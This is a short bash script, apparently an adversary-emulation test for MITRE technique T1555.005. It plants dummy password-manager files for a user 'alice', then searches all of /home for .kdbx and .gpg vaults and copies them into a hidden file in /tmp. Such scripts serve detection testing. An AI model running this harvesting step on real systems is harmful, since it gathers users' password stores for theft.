#!/bin/bash
# T1555.005: A password manager's file is sought and taken.
mkdir -p /home/alice/.password-store; echo x >/home/alice/Documents/my.kdbx; echo x >/home/alice/.password-store/bank.gpg; sleep 0.2; find /home -name '*.kdbx' -o -name '*.gpg' | cpio -o >/tmp/.kp 2>/dev/null || find /home -name '*.kdbx' -exec cp {} /tmp/.kp \;
